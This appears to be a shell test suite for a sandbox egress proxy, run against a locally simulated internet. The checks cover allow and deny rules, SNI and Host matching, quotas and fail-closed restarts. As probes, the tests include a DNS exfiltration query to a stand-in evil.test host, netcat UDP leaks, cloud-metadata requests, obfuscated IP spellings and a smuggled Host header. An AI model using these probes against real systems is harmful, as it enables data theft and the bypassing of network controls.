# Egress through sbx-shim, against a fake internet: a network namespace this
# file creates, with HTTP, HTTPS, TCP and UDP servers on public-looking
# addresses. sbx-shim runs in it (--shim-netns) and resolves test names with a
# static map (--shim-hosts), so no packet ever leaves the host.
#
#   allowed.test, www.allowed.test, a.b.allowed.test -> 93.184.216.34
#   other.test                                       -> 151.101.1.1
#   private.test -> 10.9.9.9     meta.test -> 169.254.169.254
#   loop.test -> 127.0.0.1       cgnat.test -> 100.64.1.1     mixed.test -> 10.9.9.9, 93.184.216.34

INET_SERVER_PY='
import http.server, socketserver, ssl, sys, threading, socket
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        body = ("hello from %s %s host=%s\n" % (self.server.server_address[0], self.path,
                self.headers.get("Host"))).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        sys.stderr.write("%s %s\n" % (self.client_address[0], self.requestline)); sys.stderr.flush()
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
servers = []
for addr in ("93.184.216.34", "151.101.1.1", "10.9.9.9", "169.254.169.254", "127.0.0.1", "100.64.1.1"):
    for port in (80, 8080):
        servers.append(S((addr, port), H))
tls = S(("93.184.216.34", 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[1], sys.argv[2])
tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
servers.append(tls)
def echo():
    ls = socket.socket(); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("151.101.1.1", 7000)); ls.listen(16)
    while True:
        c, _ = ls.accept()
        c.sendall(b"banner from 151.101.1.1:7000\n")
        threading.Thread(target=lambda c=c: [c.sendall(d) for d in iter(lambda: c.recv(4096), b"")], daemon=True).start()
threading.Thread(target=echo, daemon=True).start()
def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("93.184.216.34", 9999))
    while True:
        d, a = u.recvfrom(2048)
        sys.stderr.write("UDP %r from %s\n" % (d, a[0])); sys.stderr.flush()
threading.Thread(target=udp, daemon=True).start()
for s in servers[:-1]:
    threading.Thread(target=s.serve_forever, daemon=True).start()
sys.stderr.write("ready\n"); sys.stderr.flush()
tls.serve_forever()
'

# inet_up: the fake internet namespace, its servers, the hosts map, and a
# daemon "net" whose shim lives there. Sets INET_NS, INET_LOG, AUDIT.
inet_up() {
    command -v python3 >/dev/null || skip "python3 not installed"
    command -v openssl >/dev/null || skip "openssl not installed"
    INET_NS="sbxit-inet-$$"
    ip netns add "$INET_NS" || fail "ip netns add $INET_NS"
    defer "ip netns delete $INET_NS"
    stat -L -c %i "/run/netns/$INET_NS" >>"$IT_RUN/netns.extra"
    local ns="ip netns exec $INET_NS"
    $ns ip link set lo up
    local a
    for a in 93.184.216.34 151.101.1.1 10.9.9.9 169.254.169.254 100.64.1.1; do
        $ns ip addr add "$a/32" dev lo || fail "address $a"
    done
    openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=allowed.test \
        -addext "subjectAltName=DNS:allowed.test" -keyout "$T/key.pem" -out "$T/cert.pem" \
        >/dev/null 2>&1 || fail "openssl req"
    INET_LOG=$T/inet.log
    $ns python3 -c "$INET_SERVER_PY" "$T/cert.pem" "$T/key.pem" 2>"$INET_LOG" &
    local spid=$!
    defer "kill $spid"
    wait_until 10 grep -q ready "$INET_LOG" || fail "fake internet servers did not start: $(cat "$INET_LOG")"
    cat >"$T/hosts" <<'EOF'
93.184.216.34 allowed.test www.allowed.test a.b.allowed.test
151.101.1.1 other.test
10.9.9.9 private.test mixed.test
93.184.216.34 mixed.test
169.254.169.254 meta.test
127.0.0.1 loop.test
100.64.1.1 cgnat.test
EOF
    daemon_start net --shim-netns "/run/netns/$INET_NS" --shim-hosts "$T/hosts"
    AUDIT=$IT_RUN/net/egress.jsonl
}

# net_session POLICY_JSON: a session on daemon "net" with that policy (SID).
net_session() {
    new_session "{\"image\":\"busybox\",\"network\":$1}"
}

# audit_has JQ_FILTER WHAT: some audit line matches (waits a moment: lines are
# written when the decision is taken, some at connection close).
audit_has() {
    wait_until 5 _audit_match "$1" || fail "$2: no audit line matches [$1]; last lines: $(tail -n 5 "$AUDIT" 2>/dev/null)"
}
_audit_match() { [ -s "$AUDIT" ] && jq -e -s "map(select($1)) | length > 0" "$AUDIT" >/dev/null 2>&1; }

# fetch URL: busybox wget inside the session; SX_RC/SX_OUT/SX_ERR.
fetch() { sx -t 20 "$SID" -- wget -q -O - "$1"; }

test_egress_default_is_no_egress_at_all() {
    inet_up
    new_session '{"image":"busybox"}'
    sx -t 10 "$SID" -- nslookup allowed.test
    [ "$SX_RC" != 0 ] || fail "a name resolved with no policy: $SX_OUT"
    assert_contains "$SX_OUT$SX_ERR" "NXDOMAIN" "DNS answer with no policy"
    fetch http://93.184.216.34/
    [ "$SX_RC" != 0 ] || fail "direct IP fetch succeeded with no policy: $SX_OUT"
    assert_not_contains "$SX_OUT" "hello from" "direct IP fetch with no policy"
    audit_has ".session == \"$SID\" and .proto == \"dns\" and .decision == \"deny\" and .requested_host == \"allowed.test\"" "denied DNS query"
    audit_has ".session == \"$SID\" and .decision == \"deny\" and .dst_addr == \"93.184.216.34\"" "denied direct-IP connection"
}

test_allowed_host_is_reached_by_name_and_audited() {
    inet_up
    net_session '{"allow":["allowed.test"]}'
    fetch http://allowed.test/hi
    assert_eq 0 "$SX_RC" "wget http://allowed.test/hi ($SX_ERR)"
    assert_eq "hello from 93.184.216.34 /hi host=allowed.test" "$SX_OUT" "answer through the shim"
    sx -t 10 "$SID" -- nslookup allowed.test
    assert_match "$SX_OUT" 'Address: 198\.1[89]\.' "allowed name resolves into the shim's fake range"
    audit_has ".session == \"$SID\" and .decision == \"allow\" and .requested_host == \"allowed.test\" and .port == 80 and .resolved_addr == \"93.184.216.34\"" "allowed connection"
    # every audit line is one JSON object with the decision fields
    jq -e -s 'all(.[]; has("time") and has("session") and has("proto") and has("decision") and has("reason"))' "$AUDIT" >/dev/null ||
        fail "audit lines lack fields: $(head -n 3 "$AUDIT")"
    # the port must be allowed too: 8080 is not in the rule
    fetch http://allowed.test:8080/
    [ "$SX_RC" != 0 ] || fail "allowed.test:8080 reached though only 80/443 are allowed"
}

test_denied_host_is_refused_and_logged() {
    inet_up
    net_session '{"allow":["allowed.test"]}'
    sx -t 10 "$SID" -- nslookup other.test
    assert_contains "$SX_OUT$SX_ERR" "NXDOMAIN" "DNS for a denied name"
    fetch http://other.test/
    [ "$SX_RC" != 0 ] || fail "other.test reached"
    audit_has ".session == \"$SID\" and .decision == \"deny\" and .requested_host == \"other.test\"" "denied name"
    grep -q "151.101.1.1" "$INET_LOG" && fail "the denied host saw a request: $(cat "$INET_LOG")"
    true
}

test_wildcards_match_subdomains_never_the_apex_and_deny_wins() {
    inet_up
    net_session '{"allow":["*.allowed.test"],"deny":["a.b.allowed.test"]}'
    fetch http://www.allowed.test/
    assert_eq 0 "$SX_RC" "www.allowed.test under *.allowed.test ($SX_ERR)"
    fetch http://allowed.test/
    [ "$SX_RC" != 0 ] || fail "the apex allowed.test matched *.allowed.test"
    fetch http://a.b.allowed.test/
    [ "$SX_RC" != 0 ] || fail "a.b.allowed.test reached despite the deny rule"
    audit_has ".requested_host == \"a.b.allowed.test\" and .decision == \"deny\"" "deny wins"
    api POST /v1/sessions '{"image":"busybox","network":{"allow":["*.com"]}}'
    expect_error 400 invalid_policy "allow[0]"
    api POST /v1/sessions '{"image":"busybox","network":{"allow":["*"]}}'
    expect_error 400 invalid_policy "allow[0]"
}

test_names_resolving_to_forbidden_addresses_are_refused() {
    inet_up
    net_session '{"allow":["private.test","meta.test","loop.test","cgnat.test","mixed.test"]}'
    local n
    for n in private.test meta.test loop.test cgnat.test; do
        fetch "http://$n/"
        [ "$SX_RC" != 0 ] || fail "$n (a forbidden address) was reached: $SX_OUT"
        assert_not_contains "$SX_OUT" "hello from" "$n"
        audit_has ".requested_host == \"$n\" and .decision == \"deny\"" "$n refused after resolution"
    done
    # a name with one private and one public address: only the public one is used
    fetch http://mixed.test/
    assert_eq 0 "$SX_RC" "mixed.test ($SX_ERR)"
    assert_contains "$SX_OUT" "hello from 93.184.216.34" "mixed.test went to its public address"
    grep -q "^10.9.9.9\|10.9.9.9.*GET" "$INET_LOG" && fail "the private address saw a request"
    true
}

test_direct_ip_connections_are_denied_in_any_spelling() {
    inet_up
    net_session '{"allow":["allowed.test"]}'
    local u
    for u in http://93.184.216.34/ http://1572395042/ http://0x5db8d822/ http://0135.0270.0330.042/; do
        fetch "$u"
        [ "$SX_RC" != 0 ] || fail "$u reached with no allow_cidrs"
    done
    audit_has ".session == \"$SID\" and .dst_addr == \"93.184.216.34\" and .decision == \"deny\"" "direct IP"
    # metadata by literal address is refused even when a CIDR would allow it
    net_session '{"allow_cidrs":["169.254.0.0/16:80","93.184.216.0/24:80"]}'
    fetch http://169.254.169.254/latest/meta-data/
    [ "$SX_RC" != 0 ] || fail "metadata address reached"
    fetch http://93.184.216.34/cidr
    assert_eq 0 "$SX_RC" "93.184.216.34 allowed by allow_cidrs ($SX_ERR)"
}

test_host_header_and_absolute_uri_must_match_the_name() {
    inet_up
    net_session '{"allow":["allowed.test"]}'
    in_sbx "$SID" 'printf "GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n" | nc allowed.test 80'
    assert_contains "$SX_OUT" "403" "Host: other.test to allowed.test's address"
    assert_not_contains "$SX_OUT" "hello from" "Host mismatch"
    in_sbx "$SID" 'printf "GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n" | nc allowed.test 80'
    assert_contains "$SX_OUT" "403" "absolute URI other.test with Host allowed.test"
    # a second request on a kept-alive connection is checked too
    in_sbx "$SID" 'printf "GET /1 HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /2 HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n" | nc allowed.test 80'
    assert_contains "$SX_OUT" "hello from 93.184.216.34 /1" "first request"
    assert_not_contains "$SX_OUT" "/2 host=other.test" "second request with another Host"
    audit_has ".session == \"$SID\" and .proto == \"http\" and .decision == \"deny\"" "Host mismatch audited"
}

# client_hello NAME: a TLS ClientHello with SNI NAME (bytes on stdout)
client_hello() {
    python3 -c '
import ssl, sys
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
s = ctx.wrap_bio(i, o, server_hostname=sys.argv[1])
try:
    s.do_handshake()
except ssl.SSLWantReadError:
    pass
sys.stdout.buffer.write(o.read())' "$1"
}

test_tls_is_judged_by_sni_which_must_match_the_name() {
    inet_up
    net_session '{"allow":["allowed.test:443"]}'
    client_hello allowed.test >"$T/ch-ok"
    client_hello other.test >"$T/ch-bad"
    sx -t 10 -i "$SID" -- sh -c 'nc allowed.test 443 | head -c 3 | od -An -tx1' <"$T/ch-ok"
    assert_match "$SX_OUT" '16 03 0[0-4]' "ServerHello through the shim for SNI allowed.test"
    sx -t 10 -i "$SID" -- sh -c 'nc allowed.test 443 | head -c 3 | od -An -tx1' <"$T/ch-bad"
    assert_not_contains "$SX_OUT" "16 03" "SNI other.test to allowed.test's address got a TLS answer"
    audit_has ".session == \"$SID\" and .proto == \"tls\" and .decision == \"deny\"" "SNI mismatch audited"
    audit_has ".session == \"$SID\" and .proto == \"tls\" and .decision == \"allow\" and .requested_host == \"allowed.test\"" "TLS allowed audited"
}

test_other_tcp_is_judged_by_name_and_port() {
    inet_up
    net_session '{"allow":["other.test:7000"]}'
    sx -t 10 "$SID" -- sh -c 'echo ping | nc -w 1 other.test 7000 | head -n 2'
    assert_contains "$SX_OUT" "banner from 151.101.1.1:7000" "server-speaks-first protocol through the shim"
    sx -t 10 "$SID" -- sh -c 'echo ping | nc other.test 7001'
    [ "$SX_RC" != 0 ] || [ -z "$SX_OUT" ] || fail "port 7001 reached: $SX_OUT"
}

test_dns_exfiltration_and_udp_go_nowhere() {
    inet_up
    net_session '{"allow":["allowed.test"]}'
    sx -t 10 "$SID" -- nslookup c2VjcmV0LWRhdGE.exfil.evil.test
    assert_contains "$SX_OUT$SX_ERR" "NXDOMAIN" "DNS exfiltration name"
    audit_has ".requested_host == \"c2vjcmv0lwrhdge.exfil.evil.test\" or .requested_host == \"c2VjcmV0LWRhdGE.exfil.evil.test\"" "exfiltration attempt audited"
    # DNS to any other resolver address is still the shim
    sx -t 10 "$SID" -- nslookup other.test 8.8.8.8
    assert_contains "$SX_OUT$SX_ERR" "NXDOMAIN" "DNS via 8.8.8.8 is answered by the shim"
    # UDP other than DNS never leaves
    sx -t 10 "$SID" -- sh -c 'echo leak | nc -u -w 1 93.184.216.34 9999; echo leak | nc -u -w 1 allowed.test 9999; true'
    sleep 0.5
    grep -q "^UDP" "$INET_LOG" && fail "UDP reached the internet: $(grep UDP "$INET_LOG")"
    true
}

test_report_mode_allows_but_records_what_would_be_denied() {
    inet_up
    net_session '{"mode":"report","allow":["allowed.test"]}'
    fetch http://other.test/
    assert_eq 0 "$SX_RC" "report mode lets other.test through ($SX_ERR)"
    assert_contains "$SX_OUT" "hello from 151.101.1.1" "other.test answered"
    audit_has ".session == \"$SID\" and .requested_host == \"other.test\" and .decision == \"report\" and .enforce_would_deny == true" "report line"
    # forbidden addresses stay forbidden in report mode
    fetch http://private.test/
    [ "$SX_RC" != 0 ] || fail "report mode reached a private address"
}

test_live_policy_change_applies_to_new_connections() {
    inet_up
    net_session '{"allow":["allowed.test"]}'
    fetch http://other.test/
    [ "$SX_RC" != 0 ] || fail "other.test reached before the change"
    api PATCH "/v1/sessions/$SID/network" '{"allow":["other.test"]}'
    assert_eq 200 "$API_CODE" "PATCH network ($API_BODY)"
    assert_eq other.test "$(jb '.network.policy.allow[0]' | sed 's/:.*//')" "new policy shown"
    fetch http://other.test/
    assert_eq 0 "$SX_RC" "other.test right after the change ($SX_ERR)"
    fetch http://allowed.test/
    [ "$SX_RC" != 0 ] || fail "allowed.test still reached after it was removed"
    api PATCH "/v1/sessions/$SID/network" '{"allow":["*.com"]}'
    expect_error 400 invalid_policy "allow[0]"
    api PATCH "/v1/sessions/000000000000/network" '{}'
    expect_error 404 not_found
}

test_quotas_refuse_with_a_reason_and_spare_other_sessions() {
    inet_up
    net_session '{"allow":["allowed.test"],"quotas":{"connections_per_minute":2}}'
    local limited=$SID
    net_session '{"allow":["allowed.test"]}'
    local free=$SID
    SID=$limited
    fetch http://allowed.test/1
    fetch http://allowed.test/2
    fetch http://allowed.test/3
    [ "$SX_RC" != 0 ] || fail "third connection in a minute went through a quota of 2"
    audit_has ".session == \"$limited\" and .decision == \"deny\" and (.reason | test(\"quota|per minute\"))" "quota refusal audited"
    SID=$free
    fetch http://allowed.test/other-session
    assert_eq 0 "$SX_RC" "another session is not affected ($SX_ERR)"
}

test_shim_crash_fails_closed_and_restarts_with_policies() {
    inet_up
    net_session '{"allow":["allowed.test"]}'
    fetch http://allowed.test/before
    assert_eq 0 "$SX_RC" "before the crash ($SX_ERR)"
    local dpid spid
    dpid=$(daemon_pid net)
    spid=$(pgrep -P "$dpid" -f sbx-shim | head -n 1)
    [ -n "$spid" ] || fail "no sbx-shim child of sbxd $dpid"
    [ "$(ps -o uid= -p "$spid" | tr -d ' ')" != 0 ] || fail "sbx-shim runs as root"
    grep -q '^CapEff:\s*0*$' "/proc/$spid/status" || fail "sbx-shim has capabilities: $(grep Cap "/proc/$spid/status")"
    kill -KILL "$spid"
    wait_until 10 sh -c "pgrep -P $dpid -f sbx-shim | grep -vx $spid" || fail "sbx-shim was not restarted"
    fetch http://allowed.test/after
    assert_eq 0 "$SX_RC" "after the restart, the policy still applies ($SX_ERR)"
    fetch http://other.test/
    [ "$SX_RC" != 0 ] || fail "other.test reached after the restart"
    grep -q "sbx-shim.*died" "$IT_RUN/net/sbxd.log" || fail "sbxd did not log the shim's death"
    true
}

test_session_network_teardown_leaves_nothing() {
    inet_up
    net_session '{"allow":["allowed.test"]}'
    local slot_links
    slot_links=$(nsenter --net="$STATE/egress.netns" ip -o link show | grep -c ' sbx[0-9a-f]')
    api DELETE "/v1/sessions/$SID"
    assert_eq 204 "$API_CODE" "DELETE"
    wait_until 5 sh -c "[ \$(nsenter --net='$STATE/egress.netns' ip -o link show | grep -c ' sbx[0-9a-f]') -lt $slot_links ]" ||
        fail "the session's veth is still in the egress namespace"
    # the only routes there: AnyIP (local) and /32s back to sandboxes; nothing leads out
    assert_eq "" "$(nsenter --net="$STATE/egress.netns" ip route show table main | grep -v '^local default dev lo' | grep -v ' dev sbx[0-9a-f]')" \
        "routes in the egress namespace besides AnyIP and sandbox links"
    assert_no_leaks net
    daemon_stop net
    [ -e "$STATE/egress.netns" ] && fail "egress namespace pin left after sbxd stopped"
    grep -q "$STATE/egress.netns" /proc/self/mountinfo && fail "egress namespace still mounted"
    true
}
